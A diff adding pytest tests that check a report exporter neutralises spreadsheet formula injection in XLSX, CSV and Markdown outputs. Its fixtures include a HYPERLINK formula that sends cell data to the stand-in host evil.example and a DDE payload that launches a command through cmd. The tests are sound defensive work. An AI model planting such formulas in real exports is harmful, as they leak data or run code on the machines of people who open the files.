@@ -129,3 +129,78 @@ def test_the_spreadsheet_keeps_numbers_as_numbers_with_a_thousands_format():
     assert rows["Casos atendidos"].number_format == "#,##0"
     assert rows["Mediana de resolución (días)"].value == 2.25
     assert rows["Mediana de resolución (días)"].number_format == "#,##0.0"
+
+
+ATTACK = '=HYPERLINK("http://evil.example/?d="&A1,"ver")'
+PLACES = {
+    ATTACK: 3,
+    "  +cmd|' /C calc'!A0": 2,
+    "\t-2+3": 1,
+    "@SUM(A1:A9)": 1,
+    "Colonia | Las Brisas\nSan Miguel": 1,
+    "San Miguel": 5,
+}
+
+
+def tally_with_typed_places() -> dict:
+    return {**large_tally(), "by_municipality": dict(PLACES)}
+
+
+@pytest.mark.parametrize(
+    ("value", "safe"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+503", "'+503"),
+        ("-5", "'-5"),
+        ("@A1", "'@A1"),
+        ("\tx", "'\tx"),
+        ("\rx", "'\rx"),
+        ("   =1", "'   =1"),
+        ("\n=1", "'\n=1"),
+        ("San Miguel", "San Miguel"),
+        ("a=b", "a=b"),
+        (-3, -3),
+        (2.5, 2.5),
+        (None, None),
+    ],
+)
+def test_a_cell_that_a_spreadsheet_would_run_is_neutralised_and_numbers_stay(value, safe):
+    from handlers.cells import spreadsheet_safe
+
+    assert spreadsheet_safe(value) == safe
+
+
+def test_a_markdown_cell_escapes_bars_and_line_breaks():
+    from handlers.cells import markdown_cell
+
+    assert markdown_cell("a | b\nc\r\nd \\| e") == "a \\| b c d \\\\\\| e"
+
+
+def test_no_report_format_writes_a_typed_place_as_a_live_formula():
+    import csv
+    import io
+
+    from openpyxl import load_workbook
+
+    from handlers.report_files import render_csv, render_markdown, xlsx_bytes
+
+    book = load_workbook(io.BytesIO(xlsx_bytes(t, tally_with_typed_places())))
+    cells = [cell for sheet in book for row in sheet.iter_rows() for cell in row]
+    assert all(cell.data_type != "f" for cell in cells)
+    texts = [cell.value for cell in cells if isinstance(cell.value, str)]
+    assert "'" + ATTACK in texts
+    assert all(not v.lstrip().startswith(("=", "+", "-", "@")) for v in texts)
+    sheet = book["Municipios"]
+    assert {row[0].value: row[1].value for row in sheet.iter_rows(min_row=2)}["San Miguel"] == 5
+
+    rows = list(csv.reader(io.StringIO(render_csv(t, tally_with_typed_places()))))
+    cells_csv = [cell for row in rows for cell in row]
+    assert "'" + ATTACK in cells_csv
+    assert all(not c.lstrip().startswith(("=", "+", "-", "@")) for c in cells_csv)
+    assert all(not c.startswith(("\t", "\r")) for c in cells_csv)
+
+    text = render_markdown(t, tally_with_typed_places())
+    table = text[text.index("## Municipios") :].split("\n\n")[1].splitlines()
+    assert len(table) == 2 + len(PLACES)  # header, rule, one line per place: none broken
+    assert all(line.count(" | ") == 1 for line in table[2:])
+    assert "| '=HYPERLINK(" in text and "| Colonia \\| Las Brisas San Miguel | 1 |" in text
